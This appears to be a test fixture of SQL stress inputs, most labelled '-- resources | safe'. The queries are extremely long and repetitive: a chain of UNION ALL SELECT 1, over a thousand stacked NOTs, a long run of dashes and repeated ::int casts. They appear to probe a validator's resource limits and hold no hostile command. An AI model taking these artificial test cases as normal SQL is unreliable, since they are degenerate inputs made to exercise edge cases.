SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1

-- resources | safe
SELECT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT true

-- resources | safe
SELECT --------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------1

-- resources | safe
SELECT 1::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int